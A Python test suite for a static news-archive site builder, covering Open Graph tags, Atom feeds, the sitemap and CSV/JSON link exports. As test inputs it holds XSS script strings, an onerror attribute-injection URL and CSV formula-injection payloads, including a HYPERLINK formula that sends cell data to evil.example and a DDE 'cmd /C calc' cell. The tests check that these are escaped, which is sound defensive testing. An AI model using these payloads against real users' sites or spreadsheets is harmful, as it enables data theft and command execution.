"""Open Graph meta, the Atom feeds, the sitemap and the link database."""

from __future__ import annotations

import csv
import json
import re
import xml.etree.ElementTree as ET

import pytest
from bs4 import BeautifulSoup
from conftest import ROOTS, build_root, build_srcdir, soup_of

ATOM = "{http://www.w3.org/2005/Atom}"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
OVERRIDES = {
    "html_baseurl": "https://archive.example.org/wkn/",
    "html_theme": "sphinx_book_theme",
    "extensions": ["myst_parser", "sphinxext.opengraph", "newsarchive"],
    "ogp_site_url": "https://archive.example.org/wkn/",
    "ogp_social_cards": {"enable": False},
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return build_root("hostile", tmp_path_factory.mktemp("share"), confoverrides=OVERRIDES)


@pytest.fixture(scope="module")
def basic(tmp_path_factory):
    return build_root("basic", tmp_path_factory.mktemp("share-basic"), confoverrides=OVERRIDES)


def meta(html: BeautifulSoup, name: str) -> str:
    tag = html.find("meta", attrs={"property": name}) or html.find("meta", attrs={"name": name})
    assert tag is not None, name
    return tag["content"]


def test_issue_meta_uses_its_title_intro_and_first_thumbnail(hostile):
    html = soup_of(hostile.outdir / "issues/0001.html")
    title = "Hostile <script>alert('title')</script> & \"quotes\""
    assert meta(html, "og:title") == title
    assert meta(html, "twitter:title") == title
    assert meta(html, "og:description").startswith(
        "Intro with inline <script>alert('intro')</script>"
    )
    assert meta(html, "og:image") == "https://img.example.com/x.png?\"onerror=\"alert('img')"
    assert meta(html, "og:type") == "article"
    assert meta(html, "og:url") == "https://archive.example.org/wkn/issues/0001.html"
    assert (
        meta(html, "og:locale") == "ja_JP"
        if html.find("meta", attrs={"property": "og:locale"})
        else True
    )


def test_meta_values_are_escaped_in_the_raw_html(hostile):
    raw = (hostile.outdir / "issues/0001.html").read_text(encoding="utf-8")
    for content in re.findall(
        r'<meta (?:property|name)="(?:og|twitter):[^"]+" content="([^"]*)"', raw
    ):
        assert "<" not in content and ">" not in content
        assert not re.search(r"&(?!amp;|lt;|gt;|quot;|#)", content), content


def test_index_pages_describe_themselves(basic):
    html = soup_of(basic.outdir / "sites/index.html")
    assert meta(html, "og:title") == "サイト一覧 Sites"
    assert "サイト" in meta(html, "og:description")
    assert meta(html, "og:url") == "https://archive.example.org/wkn/sites/index.html"


def test_every_page_links_the_feed(basic):
    for name in ("index.html", "issues/0001.html", "sites/index.html"):
        link = soup_of(basic.outdir / name).find(
            "link", rel="alternate", type="application/atom+xml"
        )
        assert link is not None and link["href"].endswith("feed.xml"), name


def feed_entries(path):
    root = ET.parse(path).getroot()
    assert root.tag == f"{ATOM}feed"
    return root, root.findall(f"{ATOM}entry")


def test_feed_follows_rfc_4287(basic):
    root, entries = feed_entries(basic.outdir / "feed.xml")
    for element in (root, *entries):  # RFC 4287 4.1.1/4.1.2: exactly one id, title, updated
        for child in ("id", "title", "updated"):
            assert len(element.findall(f"{ATOM}{child}")) == 1, child
    assert root.find(f"{ATOM}author/{ATOM}name").text
    assert (
        root.find(f"{ATOM}link[@rel='self']").get("href")
        == "https://archive.example.org/wkn/feed.xml"
    )
    assert [e.find(f"{ATOM}title").text for e in entries] == [
        "Test News #3",
        "Test News #2",
        "Test News #1",
    ]
    for entry in entries:
        assert entry.find(f"{ATOM}updated").text.endswith("+09:00")
        assert entry.find(f"{ATOM}id").text.startswith("urn:uuid:")
    first = entries[-1]
    assert (
        first.find(f"{ATOM}link").get("href") == "https://archive.example.org/wkn/issues/0001.html"
    )
    content = BeautifulSoup(first.find(f"{ATOM}content").text, "html.parser")
    assert [a["href"] for a in content.find_all("a")] == [
        "https://example.com/articles/one?id=7&lang=ja",
        "https://arxiv.org/abs/2004.04938",
    ]


def test_feed_ids_are_stable_between_builds(tmp_path, basic):
    again = build_root("basic", tmp_path, confoverrides=OVERRIDES)
    assert (again.outdir / "feed.xml").read_bytes() == (basic.outdir / "feed.xml").read_bytes()


def test_hostile_feed_content_is_escaped(hostile):
    _, entries = feed_entries(hostile.outdir / "feed.xml")
    content = BeautifulSoup(entries[0].find(f"{ATOM}content").text, "html.parser")
    assert content.find("script") is None
    assert content.find("a").get_text() == "<script>alert('card')</script> & \"q\" 'single'"


def test_sitemap_lists_every_page(basic):
    root = ET.parse(basic.outdir / "sitemap.xml").getroot()
    locs = {u.find(f"{SITEMAP}loc").text for u in root.findall(f"{SITEMAP}url")}
    base = "https://archive.example.org/wkn/"
    for page in (
        "index.html",
        "issues/0001.html",
        "years/2021.html",
        "sites/index.html",
        "tags/index.html",
    ):
        assert base + page in locs
    html_pages = {
        p.relative_to(basic.outdir).as_posix()
        for p in basic.outdir.rglob("*.html")
        if "_static" not in p.parts
    }
    assert {base + p for p in html_pages - {"search.html", "genindex.html"}} <= locs


def cards_in_pages(outdir) -> list[tuple[int, str, str, str]]:
    found = []
    for page in sorted(outdir.glob("issues/*.html")):
        number = int(page.stem)
        for card in soup_of(page).select("article.wkn-card"):
            link = card.select_one(".wkn-card-title a")
            found.append((number, link["href"], link.get_text(), card["id"]))
    return found


def test_link_database_agrees_with_the_pages(basic):
    data = json.loads((basic.outdir / "links.json").read_text(encoding="utf-8"))
    assert set(data["fields"]) == set(data["links"][0])
    from_json = [
        (r["issue"], r["url"], r["title"], r["permalink"].split("#")[1]) for r in data["links"]
    ]
    assert from_json == cards_in_pages(basic.outdir)
    assert (basic.outdir / "links.csv").read_bytes().startswith(b"\xef\xbb\xbfissue,")
    with (basic.outdir / "links.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [
        (int(r["issue"]), r["url"], r["title"], r["permalink"].split("#")[1]) for r in rows
    ] == from_json
    first = rows[0]
    assert first["commentary"] == "Commentary of the first card with a link. Second paragraph."
    assert first["date"] == "2020-12-25" and first["permalink"] == "issues/0001.html#link-1"


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "site": "@SUM(1+1)",
    "excerpt": "+cmd|' /C calc'!A0",
    "commentary": "-2+3",
}


def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
    import shutil

    srcdir = tmp_path / "book"
    shutil.copytree(ROOTS / "test-basic", srcdir)
    page = srcdir / "issues" / "0003.md"
    card = (
        f"\n:::{{link}} https://example.com/formula\n:title: {json.dumps(FORMULAS['title'])}\n"
        f":site: {json.dumps(FORMULAS['site'])}\n:excerpt: {json.dumps(FORMULAS['excerpt'])}\n"
        f"\n{FORMULAS['commentary']}\n:::\n"
    )
    page.write_text(page.read_text(encoding="utf-8") + card, encoding="utf-8")
    outdir = build_srcdir(srcdir).outdir
    with (outdir / "links.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = [r for r in csv.DictReader(handle) if r["url"] == "https://example.com/formula"]
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value, field
    # Every other cell is as it was, and links.json keeps the values as written.
    assert row["issue"] == "3" and row["permalink"].startswith("issues/0003.html#")
    (entry,) = [
        r
        for r in json.loads((outdir / "links.json").read_text(encoding="utf-8"))["links"]
        if r["url"] == "https://example.com/formula"
    ]
    assert {field: entry[field] for field in FORMULAS} == FORMULAS


def test_control_characters_do_not_break_the_feed(hostile):
    _, entries = feed_entries(hostile.outdir / "feed.xml")
    assert "\x08" not in entries[0].find(f"{ATOM}summary").text


def test_real_book_feeds_sitemap_and_link_database_agree_with_its_pages(real_book):
    html = real_book.html
    _, entries = feed_entries(html / "feed.xml")
    assert len(entries) == 20
    assert entries[0].find(f"{ATOM}title").text == "Weekly Kaggle News #159"
    issue_links = {e.find(f"{ATOM}link").get("href").rsplit("/", 2)[-2:][1] for e in entries}
    assert "0159.html" in issue_links and "0140.html" in issue_links
    tag_feeds = sorted((html / "tags").glob("*.xml"))
    tag_pages = [p for p in (html / "tags").glob("*.html") if p.name != "index.html"]
    assert len(tag_feeds) == len(tag_pages) > 30
    for feed in tag_feeds:
        _, tag_entries = feed_entries(feed)
        for entry in tag_entries:
            assert entry.find(f"{ATOM}updated").text.endswith("+09:00")
    locs = {
        u.find(f"{SITEMAP}loc").text
        for u in ET.parse(html / "sitemap.xml").getroot().findall(f"{SITEMAP}url")
    }
    assert len([loc for loc in locs if "/issues/" in loc]) == 159
    data = json.loads((html / "links.json").read_text(encoding="utf-8"))
    from_json = [
        (r["issue"], r["url"], r["title"], r["permalink"].split("#")[1]) for r in data["links"]
    ]
    assert len(from_json) == 1198
    assert sorted(from_json) == sorted(cards_in_pages(html))
    with (html / "links.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert sum(1 for _ in csv.DictReader(handle)) == 1198
    page = real_book.page("issues/0100.html")
    assert meta(page, "og:title") == "Weekly Kaggle News #100"
    assert meta(page, "og:description").startswith("Kaggle「Jigsaw Rate Severity")
    assert meta(page, "og:image").startswith("https://")


def feed_ids(path) -> dict[str, str]:
    """Each entry's link -> its id (a tag feed's entries link to the card)."""
    _, entries = feed_entries(path)
    return {e.find(f"{ATOM}link").get("href"): e.find(f"{ATOM}id").text for e in entries}


def test_feed_ids_stay_when_titles_change_and_issues_are_added(tmp_path, basic):
    """A reader's feed client knows an entry by its id: it must not follow a title, the
    entry's position or what else the feed holds (cards added to a newer and an older
    issue)."""
    import shutil

    srcdir = tmp_path / "book"
    shutil.copytree(ROOTS / "test-basic", srcdir)
    first = srcdir / "issues" / "0001.md"
    text = first.read_text(encoding="utf-8")
    first.write_text(
        text.replace('title: "Test News #1"', 'title: "Test News #1 (renamed)"').replace(
            ':title: "', ':title: "Renamed: ', 1
        )
        + '\n:::{link} https://example.com/older\n:title: "An older NLP card"\n:tags: nlp\n:::\n',
        encoding="utf-8",
    )
    (srcdir / "issues" / "0004.md").write_text(
        '---\nissue: 4\ndate: 2021-02-05\ntitle: "Test News #4"\n---\n# Test News #4\n\n'
        ':::{link} https://example.com/new\n:title: "A new NLP card"\n:tags: nlp\n:::\n',
        encoding="utf-8",
    )
    after = build_srcdir(srcdir, confoverrides=OVERRIDES).outdir
    for feed in ("feed.xml", "tags/nlp.xml", "tags/paper.xml"):
        old, new = feed_ids(basic.outdir / feed), feed_ids(after / feed)
        assert old and all(new[link] == entry_id for link, entry_id in old.items()), feed
        assert len(set(new.values())) == len(new)  # and every id is its entry's own
    assert len(feed_ids(after / "tags/nlp.xml")) == len(feed_ids(basic.outdir / "tags/nlp.xml")) + 2
